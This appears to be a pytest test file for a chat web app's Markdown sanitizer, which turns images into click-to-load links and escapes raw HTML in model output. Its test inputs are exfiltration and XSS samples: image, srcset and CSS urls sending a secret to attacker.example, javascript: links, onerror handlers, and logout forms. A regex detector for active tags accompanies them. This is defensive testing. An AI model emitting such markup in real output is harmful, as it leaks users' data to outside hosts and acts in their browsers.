"""webapp/ui/safe_markup.py: raw HTML escaped, images behind a click, code and LaTeX untouched.

What Gradio's own renderer (marked + DOMPurify) makes of the output in Chromium, including
the cases where marked reads Markdown differently from CommonMark, is checked in
tests/test_browser_security.py; here the exact text is.
"""

from __future__ import annotations

import re
from urllib.parse import quote

import pytest
from markdown_it import MarkdownIt

from storage.models import Message
from webapp.core.messages import ToolCall
from webapp.ui.compare_render import history_items
from webapp.ui.render import render_path, tool_item
from webapp.ui.safe_markup import LATEX_MARKDOWN, safe_markdown, unescape_for_edit

SECRET = "http://attacker.example/?q=SECRET"
LOAD = "[🖼 load image: {alt} (attacker.example)](/parley/image?url={url})"
ACTIVE = re.compile(
    r"<(img|form|input|button|textarea|select|video|audio|source|picture|"
    r"iframe|object|embed|svg|math|style|link|meta|script)\b|<[a-z][^>]*"
    r"\s(style|srcset|on\w+)=",
    re.IGNORECASE,
)
RENDER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def load_link(alt: str, url: str = SECRET) -> str:
    return LOAD.format(alt=alt, url=quote(url, safe=""))


def inert(text: str) -> str:
    """The sanitized text, checked to render (as CommonMark) without any active element."""
    out = safe_markdown(text)
    html = RENDER.render(out)
    assert not ACTIVE.search(
        re.sub(r'<img src="data:image/(png|jpeg|gif|webp);base64,', "", html)
    ), html
    assert safe_markdown(out) == out, "sanitizing twice changes nothing"
    return out


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"![chart]({SECRET})", load_link("chart")),
        (
            f"![]({SECRET})",
            f"[🖼 load image: (attacker.example)](/parley/image?url={quote(SECRET, safe='')})",
        ),
        (f'![chart]({SECRET} "a title")', load_link("chart")),
        (f"![chart](<{SECRET}>)", load_link("chart")),
        ("![a](//attacker.example/x.png)", load_link("a", "https://attacker.example/x.png")),
        (f"![a][r]\n\n[r]: {SECRET}", load_link("a") + f"\n\n[r]: {SECRET}"),
        (f"![R][]\n\n[r]: {SECRET}", load_link("R") + f"\n\n[r]: {SECRET}"),
        (f"![r]\n\n[r]: {SECRET}", load_link("r") + f"\n\n[r]: {SECRET}"),
        ("![sign out](/logout)", "🖼 image not loaded: sign out (not a web address)"),
        ("![x](javascript:alert(1))", "🖼 image not loaded: x (not a web address)"),
        (
            "![svg](data:image/svg+xml;base64,PHN2Zz4=)",
            "🖼 image not loaded: svg (not a web address)",
        ),
        (
            "![dot](data:image/png;base64,iVBORw0KGgo=)",
            "![dot](data:image/png;base64,iVBORw0KGgo=)",
        ),
        (
            "![a <b>x</b> [y]](data:image/gif;base64,R0lG)",
            "![a b x /b y](data:image/gif;base64,R0lG)",
        ),
        ("![undefined reference][nowhere]", "!&#91;undefined reference][nowhere]"),
        ("\\![not an image](http://x.example/)", "\\![not an image](http://x.example/)"),
    ],
)
def test_images_load_only_after_a_click(text: str, expected: str) -> None:
    assert inert(text) == expected


@pytest.mark.parametrize(
    "markup",
    [
        f'<img src="{SECRET}">',
        f"<IMG SRC={SECRET}>",
        f'<img srcset="{SECRET} 1x">',
        f'<picture><source srcset="{SECRET}"></picture>',
        f'<div style="background:url({SECRET})">x</div>',
        f"<span style=\"background-image: url('{SECRET}')\">x</span>",
        f'<video src="{SECRET}"></video>',
        f'<video poster="{SECRET}"></video>',
        f'<audio><source src="{SECRET}"></audio>',
        '<img src="/logout">',
        '<div style="position:fixed;inset:0;z-index:99999">cover</div>',
        '<form action="/logout" method="post"><input name=a><button>go</button></form>',
        "<textarea>x</textarea><select><option>1</option></select>",
        '<b style="color:red">styled bold</b>',
        '<details open ontoggle="alert(1)">x</details>',
        "<svg><image href='/logout'/></svg>",
        "<!-- comment --><?php x ?><!DOCTYPE html>",
        f"<link rel=stylesheet href={SECRET}>",
        "<style>body{background:url(/logout)}</style>",
        "<javascript:alert(1)>",
        "</p><img src=x>",
    ],
)
def test_html_in_model_output_is_shown_as_text(markup: str) -> None:
    out = inert(f"before {markup} after")
    assert "&lt;" in out and out.replace("&lt;", "<") == f"before {markup} after"


def test_bare_harmless_tags_and_web_autolinks_are_kept() -> None:
    text = (
        "<b>bold</b> <i>i</i> <br> <br/> <kbd>Ctrl</kbd> <sub>2</sub> <small>s</small>\n\n"
        "<details><summary>More</summary>\n\nhidden\n\n</details>\n\n"
        "<https://example.com/docs?a=1>"
    )
    assert inert(text) == text


@pytest.mark.parametrize(
    "text",
    [
        '```html\n<img src=x onerror=alert(1)>\n<div style="x">\n```',
        "~~~\n<form><input></form>\n~~~",
        "````md\n```\n<img src=y>\n```\n````",
        "    <img src=indented>\n    <b style=x>",
        "- item\n\n      <img src=in-a-list>",
        'Use `Vec<T>` or `<div class="x">` in code.',
        "``a `<img src=x>` b``",
        "Inline math \\(a<b\\) and \\(x <img src=z> y\\), display $$\\frac{1}{2} <b$$.",
        "A table:\n\n| tag | use |\n|---|---|\n| `<b>` | bold |",
    ],
)
def test_code_and_latex_are_left_exactly_as_written(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # marked ends a fence on "```~"; CommonMark does not: after it is text to marked.
        ("```\ncode\n```~\n<img src=/logout>\n```", "```\ncode\n```~\n&lt;img src=/logout>\n```"),
        # A formula is taken out before Markdown (as Gradio does), so this fence is no fence to
        # marked.
        (
            '$$5\n```js\nx = "$$"\n<img src=/logout>\n```',
            '$$5\n```js\nx = "$$"\n&lt;img src=/logout>\n```',
        ),
        # Gradio inserts a mermaid block's text as HTML: shown as code instead.
        (
            '```mermaid\ngraph TD; A["<img src=/logout>"]\n```',
            '``` mermaid\ngraph TD; A["<img src=/logout>"]\n```',
        ),
        # A code span marked might not see (a backtick in a link title, in ~~, in a bare URL, a
        # table cell split at |): its content is escaped as <code>.
        (
            '[x](/u "`") <img src="/logout"> `',
            '[x](/u "<code>&quot;) &lt;img src=&quot;/logout&quot;&gt; </code>',
        ),
        ("~~a`~~ <img src=/x> `", "~~a<code>&#126;&#126; &lt;img src=/x&gt; </code>"),
        (
            "see https://a.example/`x <img src=/x> y`",
            "see https://a.example/<code>x &lt;img src=/x&gt; y</code>",
        ),
        (
            "| a | b |\n|---|---|\n| `x | <img src=/z> | y` | c |",
            "| a | b |\n|---|---|\n| <code>x &#124; &lt;img src=/z&gt; &#124; y</code> | c |",
        ),
        ("`a\n<img src=/x>`", "<code>a &lt;img src=/x&gt;</code>"),
    ],
)
def test_where_marked_may_read_differently_markup_is_escaped(text: str, expected: str) -> None:
    assert inert(text) == expected


def test_markdown_components_mask_only_their_own_latex() -> None:
    """gr.Markdown takes out only $$…$$: markup between single dollars is escaped there."""
    assert safe_markdown("$x <img src=z> y$") == "\\(x <img src=z> y\\)"
    assert safe_markdown("$x <img src=z> y$", latex=LATEX_MARKDOWN) == "$x &lt;img src=z> y$"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("it costs $5 and $10 today", "it costs $5 and $10 today"),
        ("$x^2$ and $\\alpha$", "\\(x^2\\) and \\(\\alpha\\)"),
        ("from $5 to $x$", "from $5 to \\(x\\)"),  # the money's dollar opens nothing
        ("$ x$, $x $ and $x$5", "$ x$, $x $ and $x$5"),  # space inside, digit after: no formula
        ("\\$x$ and $a\\$b$", "\\$x$ and \\(a\\$b\\)"),  # an escaped dollar is a dollar
        ("$$x^2$$ and \\[y\\] and $z$", "$$x^2$$ and \\[y\\] and \\(z\\)"),
        ("$a\n\nb$", "$a\n\nb$"),  # not across paragraphs
        ("$a\nb$", "\\(a\nb\\)"),
        ("`$x$` and\n\n```\n$y$\n```\n\n    $z$", "`$x$` and\n\n```\n$y$\n```\n\n    $z$"),
        ("$a<b$ is `<b>` and <b>bold</b>", "\\(a<b\\) is `<b>` and <b>bold</b>"),
    ],
)
def test_single_dollars_are_math_only_where_they_cannot_be_money(text: str, expected: str) -> None:
    assert inert(text) == expected
    assert safe_markdown(text, latex=LATEX_MARKDOWN).count("\\(") == text.count("\\(")


def test_every_chat_text_is_sanitized_and_attachment_markup_kept() -> None:
    preview = "data:image/png;base64,iVBORw0KGgo="
    path = [
        Message(
            id="u1",
            role="user",
            content='<img src="/logout"> hello',
            attachments=[
                {
                    "kind": "image",
                    "name": "cat.png",
                    "mime": "image/png",
                    "data": "iVBORw0KGgo=",
                    "preview": preview,
                },
                {"kind": "image_url", "url": "https://example.com/a.png"},
            ],
        ),
        Message(
            id="a1",
            role="assistant",
            content=f"![c]({SECRET})",
            reasoning="<form>x",
            state="complete",
            usage={"prompt_tokens": 1, "completion_tokens": 2},
            model="m<b>",
        ),
    ]
    texts = [m["content"][0]["text"] for m in render_path(path).messages]
    assert texts[0] == '&lt;img src="/logout"> hello'
    assert texts[1] == "![cat.png](" + preview + ")\n\n🖼 image: <https://example.com/a.png>"
    assert texts[2] == "&lt;form>x" and texts[3] == load_link("c")
    assert texts[4].startswith("<small>") and "&lt;b&gt;" in texts[4]
    block = tool_item(ToolCall("c1", '<img src="/x">', "{}"), "done", "<b>ok</b>", 5)
    assert block["metadata"]["title"].startswith('🛠 &lt;img src="/x">')


def test_compare_columns_show_the_same_safe_text() -> None:
    items = history_items(
        [
            Message(role="user", content="<form><input></form>"),
            Message(role="assistant", content=f"![c]({SECRET})", state="complete"),
        ]
    )
    assert [item["content"][0]["text"] for item in items] == [
        "&lt;form>&lt;input>&lt;/form>",
        load_link("c"),
    ]


@pytest.mark.parametrize(
    "typed",
    [
        "What does <div class='x'> do?",
        "Compare ![a][b] and <br>",
        "plain",
        "a < b and <script>x</script>",
    ],
)
def test_an_edited_message_starts_from_what_the_user_typed(typed: str) -> None:
    assert unescape_for_edit(safe_markdown(typed)) == typed
